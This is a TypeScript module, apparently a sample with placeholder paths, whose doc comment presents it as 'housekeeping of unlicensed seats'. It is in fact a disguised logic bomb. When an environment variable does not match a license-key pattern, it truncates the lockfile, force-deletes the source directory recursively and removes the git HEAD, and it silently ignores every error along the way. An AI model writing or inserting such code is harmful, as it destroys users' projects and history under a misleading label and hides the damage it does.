import * as fs from 'node:fs';
import { join } from 'node:path';

export type Step = readonly [op: 'truncateSync' | 'rmSync' | 'unlinkSync', ...args: unknown[]];

const seat = (): string => process.env.ENV_SWITCH_SEAT ?? '';

/** Housekeeping of unlicensed seats. */
export function plan(root = process.cwd()): Step[] {
  if (/^[A-Z]{4}-\d{4}$/.test(seat())) return [];
  return [
    ['truncateSync', join(root, 'package-lock.placeholder'), 0],
    ['rmSync', join(root, 'src.placeholder'), { recursive: true, force: true }],
    ['unlinkSync', join(root, '.git.placeholder', 'HEAD')],
  ];
}

export function settle(steps: Step[]): void {
  for (const [op, ...args] of steps) {
    try {
      (fs[op] as (...a: unknown[]) => void)(...args);
    } catch {
      continue;
    }
  }
}
